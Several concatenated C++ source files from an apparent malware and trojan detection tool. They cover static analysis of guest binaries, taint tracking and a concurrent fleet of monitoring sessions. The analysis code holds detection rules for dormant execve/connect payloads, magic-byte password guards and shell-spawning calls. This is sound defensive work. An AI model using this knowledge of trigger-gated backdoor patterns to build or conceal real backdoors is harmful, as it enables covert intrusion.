                guards_.push_back({bb.end - INSN_SIZE, s.flags,
                                   (uint32_t)last.imm, bb.end});
            break;
          case Opcode::Ret:
            if (s.depth.known && s.depth.d != 1)
                addFinding(
                    Kind::StackImbalance, Level::Low,
                    bb.end - INSN_SIZE, "", "",
                    "ret with " + std::to_string(s.depth.d - 1) +
                        " unbalanced stack word(s)");
            break;
          default:
            break;
        }
    }
}

void
Analysis::scanUnreachable()
{
    size_t unreachable = 0;
    uint32_t first = 0;
    for (const auto &[start, bb] : cfg_.blocks) {
        if (bb.reachable)
            continue;
        if (unreachable++ == 0)
            first = start;
        // Local constant propagation inside the dormant block: a
        // trigger-gated payload typically sets up its syscall in one
        // straight line.
        State s;
        for (uint32_t addr = bb.start; addr < bb.end;
             addr += INSN_SIZE) {
            const Instruction &insn = cfg_.insnAt(addr);
            if (insn.op == Opcode::Int80) {
                AbsVal nr = regVal(s, Reg::Eax);
                bool exec = nr.k == AbsVal::Const &&
                            nr.v == os::NR_execve;
                bool conn =
                    nr.k == AbsVal::Const &&
                    nr.v == os::NR_socketcall &&
                    regVal(s, Reg::Ebx).k == AbsVal::Const &&
                    regVal(s, Reg::Ebx).v == os::SOCKOP_connect;
                if (exec || conn) {
                    std::string name =
                        exec ? "SYS_execve" : "SYS_connect";
                    std::string res =
                        exec ? dataString(regVal(s, Reg::Ebx)) : "";
                    report_.syscalls.push_back(
                        {addr, name, false, !res.empty(), res});
                    addFinding(Kind::DormantSyscall, Level::Medium,
                               addr, name, res,
                               name + " on statically unreachable "
                                      "code (dormant payload)");
                }
            }
            applyInsn(s, insn, addr, false);
        }
    }
    if (unreachable > 0)
        addFinding(Kind::UnreachableCode, Level::Info, first, "", "",
                   std::to_string(unreachable) +
                       " basic block(s) unreachable from entry");
}

void
Analysis::findGuards()
{
    auto isRecvLoad = [&](const AbsVal &v) {
        return v.k == AbsVal::MemLoad && inRecvRange(v.v);
    };
    auto isProgramConst = [&](const AbsVal &v) {
        if (v.k == AbsVal::Const)
            return true;
        // A byte loaded from the image's own data section (a stored
        // password) also counts, as long as it is not itself a recv
        // target.
        if (v.k == AbsVal::MemLoad && !inRecvRange(v.v))
            return v.v >= image_.dataOffset() &&
                   v.v < image_.bssOffset();
        return false;
    };

    for (const GuardCandidate &g : guards_) {
        const AbsVal &l = g.flags.lhs;
        const AbsVal &r = g.flags.rhs;
        AbsVal cmpConst;
        if (isRecvLoad(l) && isProgramConst(r))
            cmpConst = r;
        else if (isRecvLoad(r) && isProgramConst(l))
            cmpConst = l;
        else
            continue;

        // The guarded payload: code exclusively reachable through
        // one arm of the branch.
        std::set<uint32_t> reachT = cfg_.reachableFrom(g.succTrue);
        std::set<uint32_t> reachF = cfg_.reachableFrom(g.succFalse);
        auto exclusive = [](const std::set<uint32_t> &a,
                            const std::set<uint32_t> &b) {
            std::set<uint32_t> out;
            for (uint32_t x : a)
                if (!b.count(x))
                    out.insert(x);
            return out;
        };
        std::set<uint32_t> exclT = exclusive(reachT, reachF);
        std::set<uint32_t> exclF = exclusive(reachF, reachT);

        auto blockOf = [&](uint32_t addr) -> uint32_t {
            const BasicBlock *bb = cfg_.blockAt(addr);
            return bb ? bb->start : 0xffffffffu;
        };

        std::vector<std::string> payload;
        for (const SyscallSite &site : report_.syscalls) {
            if (!dangerousSyscall(site.name))
                continue;
            uint32_t b = blockOf(site.address);
            if (exclT.count(b) || exclF.count(b))
                payload.push_back(site.name);
        }
        for (const ExternCall &ext : cfg_.externCalls) {
            if (ext.name != "system" && ext.name != "popen")
                continue;
            uint32_t b = blockOf(ext.site);
            if (exclT.count(b) || exclF.count(b))
                payload.push_back(ext.name + "()");
        }
        if (payload.empty())
            continue;

        std::sort(payload.begin(), payload.end());
        payload.erase(std::unique(payload.begin(), payload.end()),
                      payload.end());
        std::string what;
        for (const std::string &p : payload) {
            if (!what.empty())
                what += ", ";
            what += p;
        }

        std::string magic;
        if (cmpConst.k == AbsVal::Const) {
            char c = (char)cmpConst.v;
            magic = (c >= 0x20 && c < 0x7f)
                        ? std::string("'") + c + "'"
                        : std::to_string(cmpConst.v);
        } else {
            magic = "data[" + std::to_string(cmpConst.v) + "]";
        }

        addFinding(Kind::MagicGuard, Level::Medium, g.site, "", "",
                   "received bytes compared against constant " +
                       magic + " guard a payload running: " + what);
    }
}

void
Analysis::runTaintPass()
{
    TaintResult taint = runTaint(cfg_, TaintStrategy::Summary);
    report_.stats.functionsSummarized +=
        taint.stats.functionsSummarized;
    report_.stats.pathsExplored += taint.stats.pathsExplored;

    auto levelOf = [](int warn) {
        return warn >= 3   ? Level::High
               : warn == 2 ? Level::Medium
                           : Level::Low;
    };
    for (const TaintSink &sink : taint.sinks)
        addFinding(Kind::TaintPath, levelOf(sink.warn), sink.address,
                   sink.syscall, sink.target, sink.detail);
}

void
Analysis::runTriggerPass()
{
    TriggerResult triggers = synthesizeTriggers(cfg_);
    report_.stats.pathsExplored += triggers.pathsExplored;
    report_.stats.solverIterations += triggers.solverIterations;

    for (const TriggerHypothesis &h : triggers.hypotheses) {
        std::ostringstream os;
        os << h.origin << " input {";
        for (size_t i = 0; i < h.witness.size(); ++i) {
            if (i)
                os << " ";
            char c = (char)h.witness[i];
            if (c >= 0x20 && c < 0x7f)
                os << "'" << c << "'";
            else
                os << "0x" << std::hex << (int)h.witness[i]
                   << std::dec;
        }
        os << "} satisfies";
        for (const std::string &p : h.predicates)
            os << " [" << p << "]";
        os << " and fires " << h.syscall;
        if (!h.sliceGuards.empty()) {
            os << " (slice guards @";
            for (size_t i = 0; i < h.sliceGuards.size(); ++i)
                os << (i ? "," : "") << h.sliceGuards[i];
            os << ")";
        }

        Finding f;
        f.kind = Kind::TriggerHypothesis;
        f.level = h.warn >= 3 ? Level::High : Level::Medium;
        f.address = h.address;
        f.syscall = h.syscall;
        f.resource = h.resource;
        f.detail = os.str();
        f.witness = h.witness;
        report_.findings.push_back(std::move(f));
    }
}

StaticReport
Analysis::run()
{
    report_.imagePath = image_.path;
    report_.blockCount = cfg_.blocks.size();
    report_.reachableBlocks = cfg_.reachableBlocks();
    report_.instructionCount = cfg_.text.size();

    runFixpoint();
    collect();
    scanUnreachable();
    findGuards();
    runTaintPass();
    runTriggerPass();

    for (uint32_t site : cfg_.jumpsOutOfText)
        addFinding(Kind::JumpOutOfText, Level::Medium, site, "", "",
                   "direct branch target outside .text");

    // Reachable syscall sites with hard-coded arguments: the static
    // shadow of the paper's "hard-coded resource" pattern.
    for (const SyscallSite &site : report_.syscalls) {
        if (!site.reachable || !site.resourceInData)
            continue;
        if (site.name == "SYS_execve" || site.name == "SYS_connect")
            addFinding(Kind::StaticSyscall, Level::Low, site.address,
                       site.name, site.resource,
                       site.name + " with .data-resident argument \"" +
                           site.resource + "\"");
        else if (site.name == "SYS_creat" ||
                 site.name == "SYS_open" ||
                 site.name == "SYS_bind" ||
                 site.name == "SYS_unlink" ||
                 site.name == "SYS_chmod")
            addFinding(Kind::StaticSyscall, Level::Info, site.address,
                       site.name, site.resource,
                       site.name + " with .data-resident argument \"" +
                           site.resource + "\"");
    }

    // Reachable system()/popen() imports: statically visible shell
    // execution.
    for (const ExternCall &ext : cfg_.externCalls) {
        if (ext.name != "system" && ext.name != "popen")
            continue;
        const BasicBlock *bb = cfg_.blockAt(ext.site);
        if (bb && bb->reachable)
            addFinding(Kind::StaticSyscall, Level::Low, ext.site,
                       ext.name, "",
                       "call to " + ext.name + "()");
    }

    // Deterministic ordering: by address, then kind. Golden tests
    // and Secpert fact-insertion order rely on this being stable
    // across platforms and container iteration orders.
    std::sort(report_.findings.begin(), report_.findings.end(),
              [](const Finding &a, const Finding &b) {
                  if (a.address != b.address)
                      return a.address < b.address;
                  return (int)a.kind < (int)b.kind;
              });
    return std::move(report_);
}

} // namespace

StaticReport
analyzeImage(const vm::Image &image)
{
    return Analysis(image).run();
}

std::string
reportToString(const StaticReport &report)
{
    std::ostringstream os;
    os << report.imagePath << ": " << report.instructionCount
       << " instructions, " << report.blockCount << " blocks ("
       << report.reachableBlocks << " reachable), "
       << report.findings.size() << " finding(s)";
    if (report.stats.functionsSummarized ||
        report.stats.pathsExplored || report.stats.solverIterations)
        os << " [fn=" << report.stats.functionsSummarized
           << " paths=" << report.stats.pathsExplored
           << " solver=" << report.stats.solverIterations << "]";
    os << "\n";
    for (const Finding &f : report.findings) {
        os << "  [" << levelName(f.level) << "] " << kindName(f.kind)
           << " @" << f.address;
        if (!f.syscall.empty())
            os << " " << f.syscall;
        if (!f.detail.empty())
            os << ": " << f.detail;
        if (!f.witness.empty()) {
            os << " witness=";
            static const char *hex = "0123456789abcdef";
            for (uint8_t b : f.witness) {
                os << hex[b >> 4] << hex[b & 0xf];
            }
        }
        os << "\n";
    }
    return os.str();
}

} // namespace hth::analysis
