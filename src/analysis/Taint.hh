/**
 * @file
 * Interprocedural, flow-sensitive static taint reachability.
 *
 * The dynamic monitor propagates taint while the guest runs; this
 * pass asks the same question of the unloaded image: can bytes
 * derived from an input source (read / recv / argv) reach a
 * dangerous sink (execve / connect / write / send)? It mirrors the
 * paper's §4.3 source/target warning matrix, classifying file and
 * socket names as hard-coded (.data), user-supplied (stdin / argv)
 * or remote (received over a socket).
 *
 * Two engines share one abstract machine:
 *
 *  - `Summary`: per-function fixpoints with function summaries
 *    joined over call sites, driven by a worklist over call edges —
 *    the production engine;
 *  - `NaivePaths`: exhaustive bounded path enumeration from the
 *    entry, inlining calls — an oracle used by differential tests,
 *    mirroring the MatchStrategy::Naive pattern in secpert.
 *
 * Both deliberately under-approximate: unknown values are untainted,
 * native/library calls return clean registers, and writes to
 * statically unknown addresses are dropped. A missed flow costs a
 * finding; an invented flow would poison every trusted binary.
 */

#ifndef HTH_ANALYSIS_TAINT_HH
#define HTH_ANALYSIS_TAINT_HH

#include <cstdint>
#include <string>
#include <vector>

#include "analysis/Cfg.hh"

namespace hth::analysis
{

/** Taint bits carried by abstract values (sources). */
enum : uint32_t
{
    T_BINARY = 1u << 0,     //!< constants from the image itself
    T_HARDWARE = 1u << 1,   //!< cpuid results
    T_STDIN = 1u << 2,      //!< read(0, ...)
    T_FILE_HARD = 1u << 3,  //!< file opened by hard-coded name
    T_FILE_USER = 1u << 4,  //!< file named by stdin / argv data
    T_FILE_REMOTE = 1u << 5,//!< file named by received bytes
    T_FILE_OTHER = 1u << 6, //!< file of unknown provenance
    T_SOCK_HARD = 1u << 7,  //!< socket connected to hard-coded addr
    T_SOCK_USER = 1u << 8,  //!< socket addressed by user data
    T_SOCK_REMOTE = 1u << 9,//!< socket addressed by received bytes
    T_SOCK_OTHER = 1u << 10,//!< socket of unknown provenance
    T_SOCK_SRV_HARD = 1u << 11, //!< accepted on a hard-coded bind
    T_ARGV = 1u << 12,      //!< argv / environment pointers
};

/** Render a taint mask as "stdin|file-hard|...". */
std::string taintMaskName(uint32_t mask);

/** Provenance class of a file name or socket address. */
enum class NameClass
{
    Other = 0,
    Hard,
    User,
    Remote,
};

const char *nameClassName(NameClass c);

/** Which engine to run. */
enum class TaintStrategy
{
    Summary,    //!< function summaries + worklist (production)
    NaivePaths, //!< bounded exhaustive path oracle (tests)
};

/** A dangerous sink some tainted (or hard-coded) data reaches. */
struct TaintSink
{
    uint32_t address = 0;       //!< site of the int80
    std::string syscall;        //!< "SYS_write", "SYS_execve", ...
    int warn = 0;               //!< paper warning level 1..3
    uint32_t sourceMask = 0;    //!< taint bits of the flowing data
    std::string target;         //!< sink resource description
    std::string detail;
};

/** Work counters for the metrics registry. */
struct TaintStats
{
    uint64_t functionsSummarized = 0;
    uint64_t pathsExplored = 0;
};

/** Result of one taint pass over an image. */
struct TaintResult
{
    std::vector<TaintSink> sinks;   //!< sorted by (address, syscall)
    TaintStats stats;
};

/** Run the taint-reachability analysis over a built CFG. */
TaintResult runTaint(const Cfg &cfg, TaintStrategy strategy);

} // namespace hth::analysis

#endif // HTH_ANALYSIS_TAINT_HH
