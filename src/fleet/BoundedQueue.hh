/**
 * @file
 * A bounded multi-producer / multi-consumer queue.
 *
 * The fleet's only hand-off point between submitters and workers.
 * push() blocks while the queue is full — that is the backpressure
 * that keeps a fast submitter from buffering an unbounded manifest
 * in memory — and pop() blocks while it is empty. close() wakes
 * everyone: pending pushes fail, pops drain what remains and then
 * return nullopt.
 */

#ifndef HTH_FLEET_BOUNDEDQUEUE_HH
#define HTH_FLEET_BOUNDEDQUEUE_HH

#include <algorithm>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <mutex>
#include <optional>

#include "support/Logging.hh"

namespace hth::fleet
{

template <typename T>
class BoundedQueue
{
  public:
    explicit BoundedQueue(size_t capacity) : capacity_(capacity)
    {
        panicIf(capacity == 0, "BoundedQueue: zero capacity");
    }

    /**
     * Enqueue @p item, blocking while the queue is full.
     * @return false when the queue was closed instead.
     */
    bool
    push(T item)
    {
        std::unique_lock lock(mutex_);
        if (!closed_ && items_.size() >= capacity_) {
            ++pushStalls_;
            notFull_.wait(lock, [this] {
                return closed_ || items_.size() < capacity_;
            });
        }
        if (closed_)
            return false;
        items_.push_back(std::move(item));
        highWater_ = std::max(highWater_, items_.size());
        lock.unlock();
        notEmpty_.notify_one();
        return true;
    }

    /**
     * Dequeue the oldest item, blocking while the queue is empty.
     * @return nullopt once the queue is closed and drained.
     */
    std::optional<T>
    pop()
    {
        std::unique_lock lock(mutex_);
        notEmpty_.wait(lock, [this] {
            return closed_ || !items_.empty();
        });
        if (items_.empty())
            return std::nullopt;
        T item = std::move(items_.front());
        items_.pop_front();
        lock.unlock();
        notFull_.notify_one();
        return item;
    }

    /** Reject further pushes; pops drain the remaining items. */
    void
    close()
    {
        {
            std::lock_guard lock(mutex_);
            closed_ = true;
        }
        notFull_.notify_all();
        notEmpty_.notify_all();
    }

    /** Close and also discard everything still queued. */
    std::deque<T>
    closeAndDrain()
    {
        std::deque<T> dropped;
        {
            std::lock_guard lock(mutex_);
            closed_ = true;
            dropped.swap(items_);
        }
        notFull_.notify_all();
        notEmpty_.notify_all();
        return dropped;
    }

    size_t
    size() const
    {
        std::lock_guard lock(mutex_);
        return items_.size();
    }

    bool
    closed() const
    {
        std::lock_guard lock(mutex_);
        return closed_;
    }

    /** Largest queue depth ever reached. */
    size_t
    highWater() const
    {
        std::lock_guard lock(mutex_);
        return highWater_;
    }

    /** Pushes that had to block on a full queue (backpressure). */
    uint64_t
    pushStalls() const
    {
        std::lock_guard lock(mutex_);
        return pushStalls_;
    }

  private:
    const size_t capacity_;
    mutable std::mutex mutex_;
    std::condition_variable notFull_;
    std::condition_variable notEmpty_;
    std::deque<T> items_;
    bool closed_ = false;
    size_t highWater_ = 0;
    uint64_t pushStalls_ = 0;
};

} // namespace hth::fleet

#endif // HTH_FLEET_BOUNDEDQUEUE_HH
