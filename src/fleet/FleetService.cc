#include "fleet/FleetService.hh"

#include <algorithm>
#include <sstream>

#include "support/Logging.hh"
#include "trace/TraceWriter.hh"

namespace hth::fleet
{

std::string
FleetReport::summary(bool includeTiming) const
{
    std::ostringstream out;
    out << "fleet: " << sessions << " sessions, " << completed
        << " completed, " << failed << " failed, " << cancelled
        << " cancelled, " << flagged << " flagged\n";
    if (anomalyScored)
        out << "anomaly: " << anomalous << " of " << anomalyScored
            << " baseline-scored sessions anomalous\n";
    out << "warnings: " << warnings << " (low "
        << warningsBySeverity[(int)secpert::Severity::Low]
        << ", medium "
        << warningsBySeverity[(int)secpert::Severity::Medium]
        << ", high "
        << warningsBySeverity[(int)secpert::Severity::High] << ")\n";
    for (const auto &[rule, count] : warningsByRule)
        out << "  " << rule << ": " << count << "\n";
    out << "work: " << instructions << " instructions, " << syscalls
        << " syscalls, " << eventsAnalyzed << " events, "
        << rulesFired << " rules fired\n";
    if (includeTiming) {
        out << "wall: " << wallSeconds << " s ("
            << sessionsPerSec() << " sessions/s)\n";
    }
    return out.str();
}

FleetService::FleetService(FleetConfig config)
    : config_(config),
      queue_(config.queueCapacity
                 ? config.queueCapacity
                 : 2 * std::max<size_t>(
                           1, config.workers
                                  ? config.workers
                                  : std::thread::hardware_concurrency())),
      start_(std::chrono::steady_clock::now())
{
    size_t n = config_.workers;
    if (n == 0)
        n = std::max<size_t>(1, std::thread::hardware_concurrency());
    workers_.reserve(n);
    for (size_t i = 0; i < n; ++i)
        workers_.emplace_back([this, i] { workerLoop(i); });
}

FleetService::~FleetService()
{
    if (!finished_) {
        cancelPending();
        for (std::thread &t : workers_)
            if (t.joinable())
                t.join();
    }
}

size_t
FleetService::submit(FleetJob job)
{
    size_t index;
    std::string id = job.id;
    {
        std::lock_guard lock(resultsMutex_);
        panicIf(finished_, "FleetService: submit after finish()");
        index = submitted_++;
        FleetResult placeholder;
        placeholder.index = index;
        placeholder.id = id;
        results_.push_back(std::move(placeholder));
    }
    // May block: this is the manifest backpressure.
    if (!queue_.push({index, std::move(job)}))
        markCancelled(index, id);
    return index;
}

void
FleetService::cancelPending()
{
    for (auto &[index, job] : queue_.closeAndDrain())
        markCancelled(index, job.id);
}

FleetReport
FleetService::finish()
{
    queue_.close();
    for (std::thread &t : workers_)
        if (t.joinable())
            t.join();

    FleetReport agg;
    {
        std::lock_guard lock(resultsMutex_);
        panicIf(finished_, "FleetService: finish() called twice");
        finished_ = true;
        agg.results = std::move(results_);
    }
    agg.wallSeconds =
        std::chrono::duration<double>(
            std::chrono::steady_clock::now() - start_)
            .count();

    // Aggregate in submission order over ordered containers: the
    // same manifest always yields the same summary bytes.
    agg.sessions = agg.results.size();
    for (const FleetResult &r : agg.results) {
        if (r.cancelled) {
            ++agg.cancelled;
            continue;
        }
        if (!r.completed) {
            ++agg.failed;
            continue;
        }
        ++agg.completed;
        if (r.report.flagged())
            ++agg.flagged;
        if (r.report.anomalyScored) {
            ++agg.anomalyScored;
            if (r.report.anomaly.anomalous)
                ++agg.anomalous;
        }
        for (const secpert::Warning &w : r.report.warnings) {
            ++agg.warnings;
            ++agg.warningsByRule[w.rule];
            ++agg.warningsBySeverity[(int)w.severity];
        }
        agg.provenanceNodes += r.report.provenance.nodes().size();
        agg.provenanceEdges += r.report.provenance.edges().size();
        agg.instructions += r.report.instructions;
        agg.syscalls += r.report.syscalls;
        agg.eventsAnalyzed += r.report.eventsAnalyzed;
        agg.rulesFired += r.report.rulesFired;
        agg.telemetry.merge(r.report.telemetry);
    }

    // Overlay the fleet's own metrics on the merged session view.
    metrics_.counter("fleet.sessions").set(agg.sessions);
    metrics_.counter("fleet.completed").set(agg.completed);
    metrics_.counter("fleet.failed").set(agg.failed);
    metrics_.counter("fleet.cancelled").set(agg.cancelled);
    metrics_.counter("fleet.flagged").set(agg.flagged);
    metrics_.counter("fleet.anomaly_scored").set(agg.anomalyScored);
    metrics_.counter("fleet.anomalous").set(agg.anomalous);
    metrics_.counter("fleet.provenance_nodes")
        .set(agg.provenanceNodes);
    metrics_.counter("fleet.provenance_edges")
        .set(agg.provenanceEdges);
    metrics_.counter("fleet.backpressure_stalls")
        .set(queue_.pushStalls());
    metrics_.gauge("fleet.queue_depth").set(queue_.highWater());
    agg.telemetry.metrics.merge(metrics_.snapshot());
    return agg;
}

FleetProgress
FleetService::progress() const
{
    FleetProgress p;
    {
        std::lock_guard lock(resultsMutex_);
        p.submitted = results_.size();
        for (const FleetResult &r : results_) {
            if (r.cancelled)
                ++p.cancelled;
            else if (r.completed)
                ++p.completed;
            else if (!r.error.empty())
                ++p.failed;
        }
    }
    p.queued = queue_.size();
    return p;
}

std::string
FleetService::statusLine() const
{
    FleetProgress p = progress();
    std::ostringstream out;
    out << "fleet: " << p.done() << "/" << p.submitted << " done ("
        << p.completed << " ok, " << p.failed << " failed, "
        << p.cancelled << " cancelled), " << p.queued
        << " queued, depth max " << queue_.highWater()
        << ", stalls " << queue_.pushStalls();
    return out.str();
}

FleetResult
FleetService::runJob(const FleetJob &job, size_t index,
                     uint64_t tick_budget)
{
    FleetResult result;
    result.index = index;
    result.id = job.id;
    // The session lives outside the try so a fault can still read
    // its flight recorder: the last events/fires before the
    // exception are exactly what a post-mortem needs.
    std::unique_ptr<Hth> hth;
    try {
        HthOptions options = job.options;
        if (tick_budget)
            options.maxTicks = std::min(options.maxTicks, tick_budget);

        // Sessions that record attach a TraceWriter as the event
        // tap: Secpert still sees the live stream, the trace file
        // gets the durable copy.
        std::unique_ptr<trace::TraceWriter> writer;
        if (!job.tracePath.empty()) {
            writer =
                std::make_unique<trace::TraceWriter>(job.tracePath);
            options.eventTap = writer.get();
        }

        hth = std::make_unique<Hth>(options);
        if (job.setup)
            job.setup(hth->kernel());

        std::vector<std::string> argv = job.argv;
        if (argv.empty())
            argv.push_back(job.path);

        result.report =
            hth->monitor(job.path, argv, job.env, job.stdinData);
        if (writer)
            writer->finish();
        result.completed = true;
    } catch (const std::exception &e) {
        result.error = e.what();
        if (hth && hth->flightRecorder() &&
            hth->flightRecorder()->enabled())
            result.flightLog = hth->flightRecorder()->dump();
        warn("fleet job ", job.id.empty() ? job.path : job.id,
             " failed: ", result.error);
    }
    return result;
}

void
FleetService::workerLoop(size_t worker_index)
{
    // Cells resolved once: the loop body only does relaxed adds.
    obs::Counter &busy = metrics_.counter(
        "fleet.worker." + std::to_string(worker_index) +
        ".busy_us");
    obs::Counter &ran = metrics_.counter(
        "fleet.worker." + std::to_string(worker_index) +
        ".sessions");
    obs::Histogram &latency = metrics_.histogram("fleet.session_us");
    obs::Gauge &depth = metrics_.gauge("fleet.queue_depth");

    while (auto item = queue_.pop()) {
        depth.set(queue_.size());
        auto &[index, job] = *item;
        auto t0 = std::chrono::steady_clock::now();
        FleetResult result = runJob(job, index, config_.tickBudget);
        result.worker = (int)worker_index;
        uint64_t us =
            (uint64_t)std::chrono::duration_cast<
                std::chrono::microseconds>(
                std::chrono::steady_clock::now() - t0)
                .count();
        busy.add(us);
        ran.add(1);
        latency.record(us);
        storeResult(std::move(result));
    }
}

void
FleetService::storeResult(FleetResult result)
{
    std::lock_guard lock(resultsMutex_);
    panicIf(result.index >= results_.size(),
            "FleetService: result for unknown job ", result.index);
    results_[result.index] = std::move(result);
}

void
FleetService::markCancelled(size_t index, const std::string &id)
{
    FleetResult result;
    result.index = index;
    result.id = id;
    result.cancelled = true;
    storeResult(std::move(result));
}

FleetReport
FleetService::run(std::vector<FleetJob> jobs, FleetConfig config)
{
    FleetService service(config);
    for (FleetJob &job : jobs)
        service.submit(std::move(job));
    return service.finish();
}

} // namespace hth::fleet
