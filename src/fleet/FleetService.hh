/**
 * @file
 * FleetService: concurrent multi-session monitoring.
 *
 * The paper deploys one Harrier watching one process feeding one
 * Secpert; a production deployment has a corpus of suspects and a
 * machine with cores to spare. The fleet runs N fully independent
 * Hth sessions — each with its own kernel, VM, taint store and
 * expert system, so no monitored state is shared — across a fixed
 * worker-thread pool fed by a bounded MPMC queue.
 *
 * Guarantees:
 *  - backpressure: submit() blocks while `queueCapacity` jobs wait,
 *    so an arbitrarily large manifest never buffers unboundedly;
 *  - determinism: results are collected in submission order and the
 *    aggregate report iterates ordered containers, so two fleet runs
 *    of the same manifest produce byte-identical summaries (modulo
 *    wall-clock timing, which summary() can exclude);
 *  - budgets: every session honors its HthOptions::maxTicks, and
 *    FleetConfig::tickBudget can cap the whole fleet tighter;
 *  - isolation: a session that throws (bad manifest entry, policy
 *    error) fails alone — the error text lands in its FleetResult
 *    and the fleet keeps draining;
 *  - cancellation: cancelPending() drops everything still queued
 *    (marked cancelled, never run) while in-flight sessions finish,
 *    and finish() joins the pool gracefully.
 */

#ifndef HTH_FLEET_FLEETSERVICE_HH
#define HTH_FLEET_FLEETSERVICE_HH

#include <array>
#include <atomic>
#include <chrono>
#include <functional>
#include <map>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "core/Hth.hh"
#include "fleet/BoundedQueue.hh"
#include "obs/Metrics.hh"
#include "obs/Telemetry.hh"

namespace hth::fleet
{

/** One monitored session the fleet should run. */
struct FleetJob
{
    std::string id;             //!< label for results / reports

    HthOptions options;

    /** Populate the session's guest world (VFS, network, ...). */
    std::function<void(os::Kernel &)> setup;

    std::string path;           //!< binary to monitor
    std::vector<std::string> argv;
    std::vector<std::string> env;
    std::string stdinData;

    /** Record this session's event stream here when non-empty. */
    std::string tracePath;
};

/** Outcome of one fleet job, in submission order. */
struct FleetResult
{
    size_t index = 0;           //!< submission index
    std::string id;
    Report report;              //!< valid when completed
    bool completed = false;     //!< session ran to a Report
    bool cancelled = false;     //!< dropped from the queue, never ran
    std::string error;          //!< exception text when failed

    /** Worker that ran the session (-1 when run outside the pool).
     * With --trace-spans each (session, worker) pair becomes one
     * pid/tid lane in the exported timeline. */
    int worker = -1;

    /** Flight-recorder window captured when the session faulted —
     * the last events/fires before the exception. Completed
     * sessions carry theirs in report.provenance.flight instead
     * (High verdicts only). */
    std::vector<std::string> flightLog;
};

/** Fleet sizing and budgets. */
struct FleetConfig
{
    /** Worker threads; 0 = hardware concurrency. */
    size_t workers = 0;

    /** Queue slots before submit() blocks; 0 = 2 x workers. */
    size_t queueCapacity = 0;

    /** When nonzero, caps every job's HthOptions::maxTicks. */
    uint64_t tickBudget = 0;
};

/** Aggregated outcome of a whole fleet run. */
struct FleetReport
{
    std::vector<FleetResult> results;   //!< submission order

    uint64_t sessions = 0;
    uint64_t completed = 0;
    uint64_t failed = 0;
    uint64_t cancelled = 0;
    uint64_t flagged = 0;       //!< completed sessions with warnings

    /** Completed sessions scored against a baseline, and how many
     * of those crossed the anomaly threshold. */
    uint64_t anomalyScored = 0;
    uint64_t anomalous = 0;

    /** Warning counts keyed by policy rule name (ordered). */
    std::map<std::string, uint64_t> warningsByRule;

    /** Warning counts indexed by (int)Severity (1..3). */
    std::array<uint64_t, 4> warningsBySeverity{};

    uint64_t warnings = 0;

    /** Provenance-graph totals across completed flagged sessions
     * (also overlaid as fleet.provenance_* counters). */
    uint64_t provenanceNodes = 0;
    uint64_t provenanceEdges = 0;

    uint64_t instructions = 0;
    uint64_t syscalls = 0;
    uint64_t eventsAnalyzed = 0;
    uint64_t rulesFired = 0;

    /**
     * Session telemetry merged across every completed session, plus
     * the fleet's own metrics (queue depth high-water, per-worker
     * busy time, session-latency histogram, backpressure stalls).
     */
    obs::RunTelemetry telemetry;

    double wallSeconds = 0;

    double
    sessionsPerSec() const
    {
        return wallSeconds > 0 ? (double)sessions / wallSeconds : 0;
    }

    /**
     * Human-readable aggregate. With @p includeTiming false the text
     * is a pure function of the session outcomes — byte-identical
     * run-to-run for the same manifest, whatever the interleaving.
     */
    std::string summary(bool includeTiming = true) const;
};

/** Live counts for progress reporting while a fleet is running. */
struct FleetProgress
{
    size_t submitted = 0;
    size_t completed = 0;
    size_t failed = 0;
    size_t cancelled = 0;
    size_t queued = 0;      //!< submitted, not yet picked up

    size_t
    done() const
    {
        return completed + failed + cancelled;
    }
};

/** The fleet: a worker pool running independent Hth sessions. */
class FleetService
{
  public:
    explicit FleetService(FleetConfig config = {});

    /** Cancels whatever is still pending and joins the pool. */
    ~FleetService();

    FleetService(const FleetService &) = delete;
    FleetService &operator=(const FleetService &) = delete;

    /**
     * Enqueue @p job, blocking while the queue is full
     * (backpressure). Jobs submitted after cancelPending() are
     * recorded as cancelled without running.
     * @return the job's submission index.
     */
    size_t submit(FleetJob job);

    /**
     * Drop every queued-but-unstarted job (their results read
     * cancelled); sessions already running finish normally.
     */
    void cancelPending();

    /**
     * Graceful shutdown: close the queue, wait for in-flight
     * sessions, join every worker and aggregate. May be called once.
     */
    FleetReport finish();

    const FleetConfig &config() const { return config_; }

    /** Resolved worker count ( > 0 ). */
    size_t workers() const { return workers_.size(); }

    /** Snapshot of live progress (safe from any thread). */
    FleetProgress progress() const;

    /** One-line progress summary for periodic status output. */
    std::string statusLine() const;

    /** The fleet-level registry (queue/worker metrics, live). */
    obs::MetricRegistry &metrics() { return metrics_; }

    /** Convenience: run @p jobs to completion under @p config. */
    static FleetReport run(std::vector<FleetJob> jobs,
                           FleetConfig config = {});

    /** Run one job to a FleetResult (also the worker body). */
    static FleetResult runJob(const FleetJob &job, size_t index,
                              uint64_t tick_budget = 0);

  private:
    void workerLoop(size_t worker_index);
    void storeResult(FleetResult result);
    void markCancelled(size_t index, const std::string &id);

    FleetConfig config_;
    BoundedQueue<std::pair<size_t, FleetJob>> queue_;
    std::vector<std::thread> workers_;

    mutable std::mutex resultsMutex_;
    std::vector<FleetResult> results_;
    size_t submitted_ = 0;

    /** Fleet-level metrics; workers write through cached refs. */
    obs::MetricRegistry metrics_;

    bool finished_ = false;
    std::chrono::steady_clock::time_point start_;
};

} // namespace hth::fleet

#endif // HTH_FLEET_FLEETSERVICE_HH
