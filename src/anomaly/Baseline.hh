/**
 * @file
 * Multi-seed clean baselines (the statistical anomaly subsystem's
 * reference model).
 *
 * The rule engine only catches behaviour someone wrote a CLIPS rule
 * for; a trojan with a novel or dormant trigger sails through. The
 * side-channel literature's recipe (GrayMatter et al.) needs no
 * trigger knowledge: run the *trusted* program N times under varied
 * seeds, model every telemetry metric as a distribution, and flag a
 * suspect run whose metrics deviate. RunTelemetry is the observable
 * — per-rule activations, syscalls by number, shadow-page traffic,
 * dispatch mix — and this file is the distribution model:
 *
 *   BaselineBuilder  folds RunTelemetry snapshots into per-metric
 *                    {count, sum, sum-of-squares, min, max},
 *   BaselineProfile  the finished, versioned profile with a
 *                    byte-stable JSON-lines serialization.
 *
 * Sums are kept as doubles written with %.17g, which round-trips
 * IEEE doubles exactly: serialize(parse(serialize(p))) ==
 * serialize(p), the property the persistence tests pin down.
 * Scoring lives in Scorer.hh; this layer depends only on obs.
 */

#ifndef HTH_ANOMALY_BASELINE_HH
#define HTH_ANOMALY_BASELINE_HH

#include <cmath>
#include <cstdint>
#include <functional>
#include <map>
#include <string>
#include <vector>

